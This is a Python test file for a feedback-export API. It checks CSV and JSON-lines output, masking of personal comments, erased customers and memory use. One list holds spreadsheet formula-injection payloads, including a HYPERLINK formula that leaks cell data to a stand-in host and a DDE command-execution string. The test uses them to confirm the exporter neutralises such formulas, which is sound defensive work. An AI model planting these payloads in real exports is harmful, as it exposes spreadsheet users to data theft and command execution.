"""Taking answers away, without taking anybody's formulas along."""

import csv
import io
import tracemalloc
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from rapport_feedback import export as exporting
from rapport_feedback.export import COLUMNS
from rapport_feedback.schemas.feedback import FeedbackFilters
from rapport_feedback.views import Mask

from tests.support.answers import somebody
from tests.support.feedback_house import House
from tests.support.loops import act

_FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "=1;2,3",
]


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


async def test_a_table_has_every_answer_with_all_that_is_known(house: House) -> None:
    ada = await somebody(house)
    survey = await ada.answer(
        2, 'Too late,\r\nsaid "Ada"', ticket="T-1", agent="eve", more={"scores": {"speed": -1}}
    )
    await ada.answer(5, "fine", at=datetime.now(UTC) - timedelta(days=1))
    await act(house, "close", of=survey, outcome="solved", informed=True)

    answer = await house.get("/v1/feedback/export", "desk", format="csv")

    assert answer.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert 'filename="feedback.csv"' in answer.headers["content-disposition"]
    assert answer.text.startswith(",".join(COLUMNS) + "\r\n")
    first, second = table(answer.text)
    assert (first["survey"], first["score"], first["ticket"]) == (survey, "2", "T-1")
    assert first["comment"] == 'Too late,\r\nsaid "Ada"'
    assert (first["topics"], first["classified_by"]) == ("waiting", "rule")
    assert (first["loop_state"], first["loop_outcome"], first["informed"]) == (
        "closed",
        "solved",
        "true",
    )
    assert orjson.loads(first["scores"]) == {"speed": -1}
    assert (second["comment"], second["loop_state"]) == ("fine", "")


async def test_no_cell_starts_a_formula(house: House) -> None:
    ada = await somebody(house)
    for formula in _FORMULAS:
        await ada.answer(2, formula, agent=formula, team=formula, ticket=formula)

    answer = await house.get("/v1/feedback/export", "desk", format="csv")

    rows = table(answer.text)
    assert {row["comment"] for row in rows} == {f"'{formula}" for formula in _FORMULAS}
    for row in rows:
        assert not any(cell[:1] in set("=+-@\t\r") for cell in row.values() if cell)


async def test_lines_are_the_answers_of_the_list(house: House) -> None:
    ada = await somebody(house)
    for score in range(1, 6):
        await ada.answer(score, f"comment {score}")

    answer = await house.get("/v1/feedback/export", "desk", format="jsonl", score_gt=1)

    assert answer.headers["content-type"] == "application/x-ndjson"
    lines = [orjson.loads(line) for line in answer.text.splitlines()]
    listed = (await house.read("/v1/feedback", "desk", score_gt=1))["feedback"]
    assert lines == listed
    assert len(lines) == 4


@pytest.mark.parametrize("format_", ["csv", "jsonl"])
async def test_words_are_masked_as_in_the_list(house: House, format_: str) -> None:
    ada = await somebody(house)
    await ada.answer(2, "I am Ada")

    answer = await house.get("/v1/feedback/export", "reader", format=format_)

    assert answer.status_code == 200
    assert answer.headers["x-masked"] == "comment, texts"
    assert "Ada" not in answer.text
    assert (await house.get("/v1/feedback/export", "stranger")).status_code == 403


async def test_the_words_of_erased_customers_are_said_to_be_gone(house: House) -> None:
    ada = await somebody(house)
    await ada.answer(2, "I am Ada")
    await house.keyring.erase([ada.subject], certificate_id="c-1")

    (row,) = table((await house.get("/v1/feedback/export", "desk")).text)
    line = orjson.loads((await house.get("/v1/feedback/export", "desk", format="jsonl")).text)

    assert row["comment"] == "(erased)"
    assert line["comment"] == {"erased": True}


async def test_an_export_of_nothing_is_a_table_without_rows(house: House) -> None:
    table_ = await house.get("/v1/feedback/export", format="csv")
    lines = await house.get("/v1/feedback/export", format="jsonl")

    assert table_.text == ",".join(COLUMNS) + "\r\n"
    assert (lines.status_code, lines.text) == (200, "")


async def test_nonsense_is_refused_before_the_first_byte(house: House) -> None:
    for query in ({"format": "xls"}, {"q": "angry"}, {"limit": "5"}, {"customer": "Ada"}):
        assert (await house.get("/v1/feedback/export", **query)).status_code == 422


async def test_a_large_export_needs_the_memory_of_a_page(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    await many(house, 6_000)
    monkeypatch.setattr(exporting, "_PAGE", 200)
    # Once before it is measured: what stays for ever is no memory of an export.
    await drained(house)

    tracemalloc.start()
    try:
        lines, peak_of_all = await drained(house)
    finally:
        tracemalloc.stop()

    assert lines == 6_000
    assert peak_of_all < 6_000_000, f"{peak_of_all} bytes"


async def test_every_answer_is_exported_once_while_customers_go_on_answering(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    await many(house, 450)
    monkeypatch.setattr(exporting, "_PAGE", 100)
    ada, seen = await somebody(house), list[str]()

    async for page in pages(house):
        seen += [one.row["survey"] for one in page]
        await ada.answer(5)

    assert len(seen) == len(set(seen)) == 450


async def many(house: House, number: int) -> None:
    """Answers as if they had been given, faster than anybody gives them."""
    async with house.resources.engine.begin() as tx:
        await tx.exec_driver_sql(
            "INSERT INTO answer (survey, revision, event_key, event_id, kind, about, answered_at,"
            " recorded_at, is_current, score, agent) SELECT 's-' || n, 1, decode(md5(n::text),"
            " 'hex'), 'e-' || n, 'csat', 'service', now() - n * interval '1 second', now(), true,"
            " n % 5 + 1, repeat('x', 200) FROM generate_series(1, $1::int) AS n",
            (number,),
        )


def pages(house: House) -> AsyncIterator[Any]:
    return exporting.pages(house.app.state.desk, FeedbackFilters(), None, sees_personal=True)


async def drained(house: House) -> tuple[int, int]:
    """As a slow client takes it: page after page, none kept."""
    lines, mask = 0, Mask("feedback[]", sees_personal=True)
    async for page in pages(house):
        lines += exporting.as_json_lines(page, mask).count(b"\n")
    return lines, tracemalloc.get_traced_memory()[1] if tracemalloc.is_tracing() else 0
